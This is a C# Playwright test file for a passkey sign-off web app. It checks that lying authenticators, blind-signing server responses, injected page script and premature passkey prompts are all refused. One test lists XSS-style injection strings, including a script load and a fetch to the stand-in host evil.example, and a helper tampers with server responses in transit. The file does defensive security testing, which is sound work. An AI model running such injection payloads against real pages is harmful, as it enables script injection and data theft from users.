using System.Text;
using System.Text.Json.Nodes;
using Countersign.Core.SignOff;
using Countersign.Tests;
using Microsoft.Playwright;

namespace Countersign.Browser.Tests;

/// <summary>Attacks that take a browser: what an authenticator, a script, an agent at the keyboard or a lying server can try. The change waits afterwards as before.</summary>
public sealed class BrowserWeaknessTests(HeldInBrowser held) : IClassFixture<HeldInBrowser>
{
    private const string CountsPasskeyRequests = """
        window.asked = 0;
        const get = navigator.credentials.get.bind(navigator.credentials);
        navigator.credentials.get = (options) => { window.asked++; return get(options); };
        """;

    /// <summary>An authenticator whose signature is none (a wrong one of the right form is `signature-invalid`), that verifies nobody, or has nobody there.</summary>
    [RequiresProgramFact(Chromium.Program)]
    public async Task An_authenticator_lies_about_signature_verification_or_presence()
    {
        await held.SignBeaInAsync();
        (bool, bool, bool, string)[] lies = [(true, false, false, "signature-malformed"), (false, true, false, "user-not-verified"), (false, false, true, "user-not-present")];
        foreach (var (bogus, badVerification, badPresence, code) in lies)
        {
            await held.PrepareAsync(held.Bea);
            await held.Bea.MisbehaveAsync(bogus, badVerification, badPresence);
            var refused = await HeldInBrowser.RefusedAsync(held.Bea);
            await held.Bea.MisbehaveAsync();
            Assert.Equal(code, refused.Code);
            await held.StillWaitingAsync();
        }
    }

    /// <summary>A server, or somebody in between, has one statement drawn and another signed, or draws one about something else than the page.</summary>
    [RequiresProgramFact(Chromium.Program)]
    public async Task Blind_signing_is_refused_by_the_page_itself()
    {
        await held.SignBeaInAsync();
        foreach (var (signsWhatItShows, code) in new[] { (false, "challenge-mismatch"), (true, "facts-moved") })
        {
            await held.Bea.Page.RouteAsync("**/api/v1/ceremonies", route => LieAsync(route, signsWhatItShows));
            await held.Bea.OpenAsync($"{held.Page}/answer");
            var refused = await HeldInBrowser.RefusedAsync(held.Bea, "#prepare");
            Assert.Equal(code, refused.Code);
            Assert.False(await held.Bea.Page.IsVisibleAsync("#statement"));
            await held.Bea.Page.UnrouteAllAsync();
        }

        await held.StillWaitingAsync();
    }

    /// <summary>Script that got into the page can neither write markup nor load or run more of itself.</summary>
    [RequiresProgramFact(Chromium.Program)]
    public async Task Script_that_got_into_the_page_cannot_bring_more()
    {
        await using var chromium = await Chromium.StartAsync(held.Gate.Origin);
        var victim = await chromium.PersonAsync();
        await victim.OpenAsync("/sign-in");
        foreach (var attack in new[]
                 {
                     "document.body.innerHTML = '<img src=x>'", "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
                     "document.createElement('script').text = 'window.ran = 1'",
                     "document.createElement('script').src = 'https://evil.example/x.js'",
                     "setTimeout('window.ran = 1', 0)", "document.createElement('iframe').srcdoc = '<b>x</b>'",
                 })
            Assert.Equal("TypeError", await victim.Page.EvaluateAsync<string>($"() => {{ try {{ {attack}; return 'it ran'; }} catch (problem) {{ return problem.name; }} }}"));
        Assert.True(await victim.Page.EvaluateAsync<bool>("() => fetch('https://evil.example/').then(() => false, () => true)"));
    }

    /// <summary>An agent at the keyboard waits for a tap given by habit: no page asks the passkey before somebody pressed, nor begins to sign an answer.</summary>
    [RequiresProgramFact(Chromium.Program)]
    public async Task No_page_asks_the_passkey_before_somebody_presses()
    {
        await held.SignBeaInAsync();
        var begun = 0;
        held.Bea.Page.Request += (_, request) => begun += request.Url.EndsWith("/api/v1/ceremonies", StringComparison.Ordinal) ? 1 : 0;
        await held.Bea.Page.AddInitScriptAsync(CountsPasskeyRequests);
        foreach (var path in new[] { "/", held.Page, $"{held.Page}/answer", "/sign-in", "/people", "/environments" })
        {
            await held.Bea.OpenAsync(path);
            await held.Bea.Page.WaitForLoadStateAsync(LoadState.NetworkIdle);
            Assert.Equal((path, 0), (path, await held.Bea.Page.EvaluateAsync<int>("() => window.asked")));
        }

        Assert.Equal(0, begun);
        await held.PrepareAsync(held.Bea);
        Assert.Equal((1, 0), (begun, await held.Bea.Page.EvaluateAsync<int>("() => window.asked")));
        await held.StillWaitingAsync();
    }

    private static async Task LieAsync(IRoute route, bool signsWhatItShows)
    {
        var answer = await route.FetchAsync();
        var offer = JsonNode.Parse(await answer.TextAsync())!;
        var statement = JsonNode.Parse(Convert.FromBase64String((string)offer["statement"]!))!;
        statement["environment"] = "staging";
        var bytes = Encoding.UTF8.GetBytes(statement.ToJsonString());
        offer["statement"] = Convert.ToBase64String(bytes);
        if (signsWhatItShows) offer["options"]!["challenge"] = Core.Formats.StrictBase64.EncodeUrl(Purpose.SignOff.Challenge(bytes));
        await route.FulfillAsync(new RouteFulfillOptions { Response = answer, Body = offer.ToJsonString() });
    }
}
